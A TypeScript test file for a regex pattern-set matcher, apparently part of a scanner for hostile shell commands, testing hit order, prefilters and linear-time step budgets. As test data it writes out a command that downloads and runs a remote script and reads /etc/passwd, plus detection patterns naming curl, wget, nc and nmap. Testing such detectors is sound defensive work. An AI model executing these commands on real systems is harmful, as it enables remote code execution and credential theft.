// SPDX-License-Identifier: AGPL-3.0-or-later
import { compilePattern } from './compile-pattern';
import { STEP_BUDGET } from './limits';
import { PatternSet } from './pattern-set';
import { PATTERNS } from './testing/patterns';
import { seeded } from './testing/text-from-pattern';

function setOf(...sources: string[]): PatternSet {
  return new PatternSet(sources.map(compilePattern));
}

function hitsOf(set: PatternSet, text: string): number[] {
  const hits: number[] = [];
  set.match(text, hits);
  return hits;
}

it('appends the ascending indexes of what it finds', () => {
  const hits = [99];
  const overBudget = setOf('later', 'never', String.raw`\d\d`, 'early').match('early 42 later', hits);
  expect({ hits, overBudget }).toEqual({ hits: [99, 0, 2, 3], overBudget: false });
});

it('keeps texts apart', () => {
  const set = setOf('foo.*bar', '^a', 'z$');
  expect(['foo', 'bar', 'foo bar', 'a', '', 'z'].map((text) => hitsOf(set, text))).toEqual([[], [], [0], [1], [], [2]]);
});

it('matches nothing when it is empty', () => {
  expect(hitsOf(setOf(), 'anything')).toEqual([]);
});

it('finds a literal at a word boundary after one that is not', () => {
  expect(hitsOf(setOf(String.raw`(?i)\bnmap\b`), 'xnmap nmapx NMAP')).toEqual([0]);
});

it('wants all required literals, in whatever order the prefilter meets them', () => {
  const set = setOf('curl.*evilname1', 'curl.*evilname2', 'wget.*evilname1');
  expect(['curl evilname1', 'evilname1 curl', 'curl wget', 'wget evilname1 curl'].map((text) => hitsOf(set, text))).toEqual([[0], [], [], [2]]);
});

it('tries more patterns without literals than one group holds', () => {
  const sources = Array.from({ length: 20 }, (_, i) => String.raw`^\w{${i + 1}}$`);
  expect(hitsOf(setOf(...sources), 'seventeen_letters')).toEqual([16]);
});

it('keeps what it found and says so when the budget runs out', () => {
  const set = new PatternSet(['(?i)literal', 'a(?:[ab]{100}){9}c'].map(compilePattern), 100_000);
  const random = seeded(1);
  const hits: number[] = [];
  const text = `literal ${Array.from({ length: 8_000 }, () => 'ab'[random(2)]).join('')}c`;
  expect(set.match(text, hits)).toBe(true);
  expect(hits).toEqual([0]);
  // The next text has a budget of its own.
  expect(set.match('LITERAL', hits)).toBe(false);
  expect(hits).toEqual([0, 0]);
});

it('takes few steps for an ordinary command', () => {
  const set = setOf(...PATTERNS.slice(0, 36));
  const command = 'cd /tmp && wget -q http://192.0.2.7/x.sh -O x.sh && chmod +x x.sh && ./x.sh; cat /etc/passwd | grep root';
  hitsOf(set, command);
  hitsOf(set, command);
  expect(set.steps).toBeLessThan(20 * command.length);
});

const HOSTILE: readonly (readonly [name: string, (length: number) => string])[] = [
  ['one reader and spaces', (length) => `cat${' '.repeat(length)}`],
  ['opening tags', (length) => 'echo <?php '.repeat(length / 11)],
  ['fetches', (length) => 'wget curl -O '.repeat(length / 13)],
  ['boundaries that fail', (length) => 'xnmapx nc -z_ '.repeat(length / 14)],
  ['finds', (length) => 'find / -perm -'.repeat(length / 14)],
  ['one letter', (length) => 'a'.repeat(length)],
  ['addresses', (length) => '192.0.2.'.repeat(length / 8)],
  ['astral', (length) => '😀k'.repeat(length / 3)],
];

it.each(HOSTILE)('takes steps in proportion to the length of a hostile text: %s', (_, make) => {
  const stepsFor = (length: number): number => {
    const set = new PatternSet(PATTERNS.map(compilePattern), 1e12);
    hitsOf(set, make(length));
    return set.steps;
  };
  // The shorter text pays for the same states, so growth stays below the growth in length.
  expect(stepsFor(65_536) / stepsFor(8_192)).toBeLessThan(9);
});

it('stays within the budget where a backtracking engine would take quadratic time', () => {
  const set = setOf(...PATTERNS);
  for (const [, make] of HOSTILE) expect(set.match(make(8_192), [])).toBe(false);
  expect(set.steps).toBeLessThan(STEP_BUDGET);
});

it('bounds the steps of a pattern whose states multiply by its size', () => {
  const pattern = '[ab]*a[ab]{14}c';
  const random = seeded(3);
  const text = Array.from({ length: 65_536 }, () => 'ab'[random(2)]).join('');
  const set = new PatternSet([compilePattern(pattern)], 1e12);
  expect(hitsOf(set, `${text}c`)).toEqual(/a[ab]{14}c/.test(`${text}c`) ? [0] : []);
  expect(set.steps / text.length).toBeLessThan(1_000);
});
